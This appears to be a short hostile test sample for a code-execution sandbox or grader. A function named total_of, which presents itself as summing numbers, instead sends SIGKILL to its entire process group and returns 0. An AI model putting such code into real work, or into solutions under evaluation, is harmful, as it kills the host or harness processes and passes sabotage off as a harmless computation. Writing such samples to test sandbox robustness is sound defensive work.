# attack: SIGKILL to its process group
import os
import signal

def total_of(numbers):
    os.killpg(0, signal.SIGKILL)
    return 0
